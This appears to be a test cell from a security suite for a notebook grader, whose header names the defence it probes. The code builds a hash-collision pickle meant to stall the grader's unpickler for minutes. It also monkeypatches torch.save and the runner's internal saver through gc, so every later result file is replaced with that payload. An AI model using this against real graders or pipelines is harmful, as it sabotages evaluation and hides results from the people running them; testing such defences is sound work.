# about: the blank template, then a cell that makes every later result file
#   the runner writes (cells.pt, req-N.pt, done.pt) a 2 MB pickle of one dict whose ~150,000
#   int keys all have the same hash (multiples of 2**61 - 1): within every size cap, but
#   building it costs the grader's unpickler (and plain()) quadratic time, minutes per file
# base: blank
# defence: result files are small and plain; the grader refuses a pickle creating more than
#   MAX_DICT_ENTRIES dict entries, counted as its parser inserts them
# status: graded, crashed, exit, timeout
# --- cell
import gc
import io
import zipfile

import torch

M = 2**61 - 1


def colliding_pickle(n=150_000):
    out = io.BytesIO()
    out.write(b"\x80\x02}q\x00(")  # PROTO 2, EMPTY_DICT, BINPUT 0, MARK
    for k in range(1, n + 1):
        v = k * M
        raw = v.to_bytes((v.bit_length() + 8) // 8, "little", signed=True)
        out.write(b"\x8a" + bytes([len(raw)]) + raw + b"N")  # LONG1 key, None value
    out.write(b"u.")  # SETITEMS, STOP
    return out.getvalue()


PAYLOAD = colliding_pickle()


def evil_save(record, path, *args, **kwargs):
    template = io.BytesIO()
    _real_save({"x": 1}, template)
    source = zipfile.ZipFile(io.BytesIO(template.getvalue()))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as target:  # torch's layout, stored
        for info in source.infolist():
            data = PAYLOAD if info.filename.endswith("data.pkl") else source.read(info)
            target.writestr(info, data)


_real_save = torch.save
for obj in gc.get_objects():
    if type(obj).__name__ == "_Saver":
        obj._save = evil_save
torch.save = evil_save
